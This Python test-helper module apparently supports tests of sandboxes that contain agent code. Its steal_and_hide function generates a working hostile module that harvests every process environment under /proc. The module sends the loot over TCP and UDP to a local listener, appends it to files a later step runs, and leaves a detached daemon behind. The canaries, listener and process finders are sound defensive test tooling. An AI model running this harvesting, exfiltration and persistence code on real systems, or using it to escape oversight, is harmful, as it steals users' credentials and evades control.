"""What a hostile (or reward-hacking) piece of agent code tries, and the listeners that catch it.

`steal_and_hide(...)` is Python source for a module (or a test file the agent commits) that, when it
is imported, does what the issue's attacker did: reads every environment it can reach (its own,
every `/proc/<pid>/environ`), sends what it found to a TCP and a UDP listener on 127.0.0.1, writes it
to every path it is told about (the run directory, a script a later step runs), and leaves a
detached process behind. `Listener` records whatever reaches the test; `survivors` finds a process
left behind by its marker. Tests assert on these, never on what the hostile code reports.
"""

from __future__ import annotations

import os
import socket
import socketserver
import threading
from collections.abc import Sequence
from pathlib import Path
from types import TracebackType

CANARIES = {
    "ANTHROPIC_API_KEY": "sk-ant-planted-canary-0001",
    "GITHUB_TOKEN": "ghp_planted_canary_0002",
    "NOTION_TOKEN": "secret_planted_canary_0003",
    "COMPOSIO_API_KEY": "composio-planted-canary-0004",
}


def steal_and_hide(port: int, targets: Sequence[str], marker: str) -> str:
    """Module source: exfiltrate at import, write to `targets`, leave a daemon tagged `marker`."""
    return f"""
import os, socket, sys, time

def _loot():
    found = dict(os.environ)
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        try:
            with open(f"/proc/{{pid}}/environ", "rb") as handle:
                found[f"proc-{{pid}}"] = handle.read().decode("utf-8", "replace")
        except OSError:
            pass
    return repr(found)

LOOT = _loot()
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        with socket.socket(socket.AF_INET, kind) as s:
            s.settimeout(2)
            s.connect(("127.0.0.1", {port}))
            s.sendall(LOOT.encode())
    except OSError:
        pass
for target in {list(targets)!r}:
    try:
        with open(target, "a", encoding="utf-8") as handle:
            handle.write(LOOT)
    except OSError:
        pass
try:
    # the pipe's write end is close-on-exec: reading it to its end returns once the daemon has
    # exec'd (and so carries the marker), so whoever looks for it next finds it, however loaded
    # the machine is
    ready, done = os.pipe()
    if os.fork() == 0:
        try:  # the child and its child never return into the importing worker, whatever fails
            os.close(ready)
            try:
                os.setsid()
            except OSError:
                pass
            if os.fork() == 0:
                forever = "import time\\nwhile True: time.sleep(1)"
                os.execv(sys.executable, [sys.executable, "-c", forever, {marker!r}])
        finally:
            os._exit(0)
    os.close(done)
    os.wait()
    os.read(ready, 1)
    os.close(ready)
except OSError:
    pass
"""


def survivors(marker: str) -> list[int]:
    """Live processes whose command line carries `marker`."""
    out = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as handle:
                cmdline = handle.read()
            with open(f"/proc/{name}/stat", encoding="utf-8") as handle:
                state = handle.read().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if marker.encode() in cmdline and state != "Z":
            out.append(int(name))
    return out


class Listener:
    """TCP and UDP on one 127.0.0.1 port, recording every byte received."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        received = self.received

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                if isinstance(self.request, tuple):  # UDP: (data, socket)
                    received.append(self.request[0])
                    return
                while chunk := self.request.recv(65536):
                    received.append(chunk)

        self.tcp = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.port = self.tcp.server_address[1]
        self.udp = socketserver.ThreadingUDPServer(("127.0.0.1", self.port), Handler)
        self._threads = [threading.Thread(target=s.serve_forever, daemon=True) for s in (self.tcp, self.udp)]

    def __enter__(self) -> Listener:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
    ) -> None:
        for server in (self.tcp, self.udp):
            server.shutdown()
            server.server_close()

    def heard(self) -> bytes:
        return b"".join(self.received)


def files_holding(root: Path, needles: Sequence[str]) -> list[Path]:
    """Every file under `root` whose bytes contain one of `needles`."""
    hits = []
    for path in root.rglob("*"):
        if path.is_file() and not path.is_symlink():
            data = path.read_bytes()
            if any(n.encode() in data for n in needles):
                hits.append(path)
    return hits


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
    return port
